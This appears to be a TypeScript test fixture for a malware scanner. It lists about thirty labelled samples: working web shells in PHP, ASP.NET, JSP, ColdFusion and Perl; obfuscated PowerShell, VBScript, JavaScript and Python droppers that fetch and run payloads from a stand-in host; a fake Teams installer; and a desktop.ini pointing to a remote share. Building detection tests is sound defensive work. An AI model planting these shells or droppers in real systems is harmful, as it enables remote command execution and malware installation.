// Files of servers and small files of Windows that run something, or have it fetched.
import { type Suspect, text } from './suspect.ts'

const moved = (body: string): string => [...body].map((char) => String.fromCharCode(char.charCodeAt(0) + 1)).join('')

export const servers: readonly Suspect[] = [
  text(
    'x.cfm',
    'malicious',
    ['script_is_web_shell'],
    '<cfif isDefined("form.c")><cfexecute name="/bin/sh" arguments="-c #form.c#" variable="o"></cfexecute><cfoutput>#o#</cfoutput></cfif>',
  ),
  text('e.cfm', 'malicious', ['script_is_web_shell'], '<cfset x = evaluate(url.q)><cfoutput>#x#</cfoutput>'),
  text(
    'p.asp',
    'malicious',
    ['script_is_web_shell'],
    '<% Dim q : q = Request.Form("q") : If q <> "" Then ExecuteGlobal q %>',
  ),
  text(
    'Teams.appinstaller',
    'malicious',
    ['app_installer_poses_as_product'],
    '<?xml version="1.0"?><AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018" Version="1.0.0.0" Uri="https://teams-app.test/t.appinstaller"><MainPackage Name="TeamsSetup" Publisher="CN=Some Partner Ltd" Version="1.0.0.0" Uri="https://teams-app.test/t.msix"/></AppInstaller>',
  ),
  text(
    'boss.contact',
    'malicious',
    ['pointer_runs_program'],
    '<?xml version="1.0"?><c:contact xmlns:c="http://schemas.microsoft.com/Contact"><c:UrlCollection><c:Url><c:Value>www.site\\..\\photo.cpl</c:Value></c:Url></c:UrlCollection></c:contact>',
  ),
  text(
    'node.js',
    'malicious',
    ['script_drops_fetched_program'],
    "const h=require('https'),f=require('fs'),o=require('os'),p=require('path'),{exec}=require('child_process');const d=p.join(o.tmpdir(),'upd.exe');h.get(Buffer.from('aHR0cHM6Ly9maWxlcy50ZXN0L2JpbmFyeQ==','base64').toString(),r=>{const s=f.createWriteStream(d);r.pipe(s);s.on('finish',()=>exec(d,{windowsHide:true}))})",
  ),
  text(
    'calls.ps1',
    'malicious',
    ['script_disguises_its_download'],
    '$c = .("{1}{0}" -f "w-Object","Ne") ("{1}{0}" -f "bClient","Net.We")\n$c.("{1}{0}" -f "loadFile","Down").Invoke("https://files.test/a.exe","$env:APPDATA\\a.exe")\n&("{1}{0}" -f "ps","sa") "$env:APPDATA\\a.exe"',
  ),
  text(
    'cipher.php',
    'malicious',
    ['script_is_web_shell'],
    '<?php $z=fopen("php://input","r");$d=stream_get_contents($z);$x=openssl_decrypt($d,"aes-128-cbc","0123456789abcdef",0,"fedcba9876543210");eval($x); ?>',
  ),
  text(
    'header.php',
    'malicious',
    ['script_is_web_shell'],
    '<?php if(@$_SERVER["HTTP_X_T"]=="k"){$f=@$_SERVER["HTTP_X_D"];$t=tempnam("/tmp","x");file_put_contents($t,"<?php ".base64_decode($f));include $t;}',
  ),
  text('called.php', 'malicious', ['script_is_web_shell'], '<?php ($f=@$_GET[2]).@$f($_POST[1]); ?>'),
  text(
    'param.pl',
    'malicious',
    ['script_is_web_shell'],
    '#!/usr/bin/perl\nuse CGI;my $q=new CGI;print $q->header();my $c=$q->param("c");print `$c`;\n',
  ),
  text(
    'assembly.aspx',
    'malicious',
    ['script_is_web_shell'],
    '<%@ Page Language="C#"%><script runat="server">void Page_Load(object s, EventArgs e){var a=System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["z"]));a.CreateInstance("P");}</script>',
  ),
  text(
    'agent.js',
    'malicious',
    ['script_runs_answer'],
    'setInterval(()=>{require("http").get("http://files.test/task",r=>{let d="";r.on("data",x=>d+=x);r.on("end",()=>{require("child_process").exec(d,()=>{})})})},5000)',
  ),
  text(
    'logger.js',
    'malicious',
    ['script_runs_answer'],
    'const cp=require("child_process");const axios=require("axios");(async()=>{try{await axios.get("https://files.test/j")}catch(err){cp["ex"+"ec"](err.response.data.cookie)}})()',
  ),
  text(
    'shifted.vbs',
    'suspicious',
    ['script_conceals_itself'],
    `Function D(s): Dim i,r: For i=1 To Len(s): r=r & Chr(Asc(Mid(s,i,1))-1): Next: D=r: End Function\nCreateObject(D("XTdsjqu/Tifmm")).Run D("${moved('powershell -w hidden iex(irm http://files.test/a)')}"),0`,
  ),
  text(
    'pieces.js',
    'malicious',
    ['script_starts_hidden_cradle'],
    'var p=[];p["push"]("power");p["push"]("shell -w hidden -c iex");p["push"]("(irm http://files.test/p)");GetObject("winmgmts:").Get("Win32_Process").Create(p["join"](""),null,null,0);',
  ),
  text(
    'update.py',
    'malicious',
    ['script_drops_fetched_program'],
    'import urllib.request as r,tempfile,os,subprocess\np=os.path.join(tempfile.gettempdir(),"svchost.exe")\nopen(p,"wb").write(r.urlopen("https://files.test/w").read())\nsubprocess.Popen([p],creationflags=0x08000000)\n',
  ),
  text(
    'loader.jsp',
    'malicious',
    ['script_is_web_shell'],
    '<%!class V extends ClassLoader{V(ClassLoader p){super(p);}public Class make(byte []q){return super.defineClass(q,0,q.length);}}%><%if(request.getMethod().equals("POST")){Cipher d=Cipher.getInstance("AES");byte[] z=Base64.getDecoder().decode(request.getReader().readLine());new V(this.getClass().getClassLoader()).make(d.doFinal(z)).newInstance();}%>',
  ),
  text(
    'svc.asmx',
    'malicious',
    ['script_is_web_shell'],
    '<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services; using System.Diagnostics;\npublic class S : WebService { [WebMethod] public string Do(string line) { var i = new ProcessStartInfo("cmd.exe", "/c " + line) { RedirectStandardOutput = true }; return Process.Start(i).StandardOutput.ReadToEnd(); } }\n',
  ),
  text(
    'encoded.aspx',
    'malicious',
    ['script_is_web_shell'],
    '<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Form["k"])),"unsafe");%>',
  ),
  text(
    'web.config',
    'malicious',
    ['script_is_web_shell'],
    '<?xml version="1.0"?><configuration><system.webServer><handlers><add name="w" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" requireAccess="Write"/></handlers></system.webServer></configuration><!-- <% Set s = CreateObject("WScript.Shell") : Response.Write s.Exec("cmd /c " & Request.QueryString("q")).StdOut.ReadAll() %> -->',
  ),
  text(
    'desktop.ini',
    'malicious',
    ['pointer_leads_to_share'],
    '[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.7\\icons\\a.ico,0\r\n',
  ),
  text(
    'tangled.php',
    'suspicious',
    ['script_runs_downloaded_text'],
    '<?php goto a1; b2: $p = $f("\\150\\x74\\164\\x70\\163://files.test/a.txt"); goto c3; a1: error_reporting(0); goto d4; c3: eval("?>" . $p); goto e5; d4: $f = "\\146\\x69\\154\\x65_get_contents"; goto b2; e5: ?>',
  ),
  text(
    'stage.rb',
    'suspicious',
    ['script_runs_downloaded_text'],
    "require 'open-uri'\nrequire 'zlib'\nrequire 'base64'\neval(Zlib::Inflate.inflate(Base64.decode64(URI.open('https://files.test/s').read)))\n",
  ),
  text(
    'put.ashx',
    'suspicious',
    ['script_is_web_shell'],
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.IO; using System.Web;\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n  string n = c.Request["n"], b = c.Request["b"];\n  string t = c.Server.MapPath("~/") + n;\n  using (StreamWriter w = File.CreateText(t)) { w.Write(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(b))); }\n }\n public bool IsReusable { get { return false; } }\n}\n',
  ),
  text(
    'put.php',
    'suspicious',
    ['script_is_web_shell'],
    "<?php $d = __DIR__ . '/' . $_POST['n']; $b = base64_decode($_POST['b']); if (file_put_contents($d, $b)) { echo 'ok'; } ?>",
  ),
  text(
    'engine.jsp',
    'malicious',
    ['script_is_web_shell'],
    '<%@ page import="javax.script.*" %><% String q = request.getParameter("z"); new ScriptEngineManager().getEngineByName("js").eval(new String(Base64.getDecoder().decode(q))); %>',
  ),
  text(
    'memory.ashx',
    'malicious',
    ['script_is_web_shell'],
    '<%@ WebHandler Language="C#" Class="M" %>\npublic class M : IHttpHandler { public void ProcessRequest(HttpContext c) { byte[] d = Convert.FromBase64String(c.Request["d"]); typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); } }\n',
  ),
  text(
    'console.aspx',
    'malicious',
    ['script_is_web_shell'],
    '<%@ Page Language="VB" %><script runat="server">\nSub Go(s As Object, e As EventArgs)\n Dim i As New ProcessStartInfo(tool.Text)\n i.Arguments = line.Text\n Process.Start(i)\nEnd Sub\n</script><form runat="server"><asp:TextBox id="tool" runat="server"/><asp:TextBox id="line" runat="server"/></form>',
  ),
]
